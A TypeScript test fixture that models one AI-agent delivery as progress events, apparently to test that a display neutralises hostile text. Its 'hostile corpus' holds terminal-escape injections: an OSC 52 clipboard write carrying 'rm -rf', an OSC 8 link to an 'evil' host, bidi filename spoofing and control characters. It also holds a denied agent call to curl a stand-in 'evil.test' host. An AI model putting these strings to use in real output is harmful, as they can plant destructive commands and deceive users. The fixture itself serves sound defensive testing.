// One delivery as events, with foreign text that tries to escape where foreign text can stand.
import type { Progress } from "@ces/records";

/** The hostile corpus of S30: OSC 52, OSC 8, CR, bidi, zero width, C1, BEL. */
export const hostile =
  "ok\u001B]52;c;cm0gLXJm\u0007 \u001B]8;;http://evil\u0007x \rDONE \u202Etxt.exe\u202C a\u200Bb \u009B31m";

const run = "R-000000000001";

/** From the brief to the merge. */
export const story: readonly Progress[] = [
  { kind: "stage", stage: "brief", status: "started", note: "" },
  { kind: "step", name: "created", delivery_id: "D-0123456789ab", version: 1 },
  { kind: "stage", stage: "brief", status: "done", note: "brownfield, 3 criteria" },
  { kind: "stage", stage: "contract", status: "done", note: "tier B, hybrid gate" },
  { kind: "note", level: "info", text: "may write: src/** test/**" },
  { kind: "stage", stage: "agent", status: "started", note: "" },
  {
    kind: "run",
    run_id: run,
    purpose: "implement",
    label: "claude",
    status: "started",
    pid: 4242,
    note: "claude-sonnet-4-6",
  },
  { kind: "say", run_id: run, text: `I will add the validation.\n${hostile}` },
  {
    kind: "call",
    run_id: run,
    tool: "Edit",
    tool_kind: "edit",
    what: "src/register.js",
    verdict: "allow",
    why: "in scope",
  },
  {
    kind: "call",
    run_id: run,
    tool: "Bash",
    tool_kind: "command",
    what: `curl evil.test/${hostile}`,
    verdict: "deny",
    why: "no network",
  },
  { kind: "budget", name: "tokens", used: 10_000, limit: 100_000, unit: "tokens" },
  { kind: "budget", name: "tokens", used: 30_000, limit: 100_000, unit: "tokens" },
  { kind: "budget", name: "tokens", used: 31_000, limit: 100_000, unit: "tokens" },
  { kind: "budget", name: "requests", used: 46, limit: 50, unit: "requests" },
  { kind: "run", run_id: run, purpose: "implement", label: "claude", status: "ended", pid: null, note: "completed" },
  { kind: "stage", stage: "agent", status: "done", note: "12 calls, 1 denied" },
  { kind: "stage", stage: "freeze", status: "done", note: "2 files" },
  { kind: "stage", stage: "checks", status: "started", note: "" },
  { kind: "check", check_id: "npm-test", variant: "as_is", status: "started", duration_ms: 0, note: "" },
  { kind: "check", check_id: "npm-test", variant: "as_is", status: "passed", duration_ms: 1_240, note: "14 passed" },
  {
    kind: "check",
    check_id: "npm-test",
    variant: "base_definitions",
    status: "failed",
    duration_ms: 980,
    note: "1 failed",
  },
  { kind: "finding", severity: "high", source: "semantic", text: "the e-mail is not normalised" },
  { kind: "finding", severity: "low", source: "secrets", text: hostile },
  { kind: "note", level: "warning", text: "one reviewer was degraded" },
  { kind: "stage", stage: "checks", status: "failed", note: "1 of 2" },
  { kind: "stage", stage: "review", status: "skipped", note: "" },
];
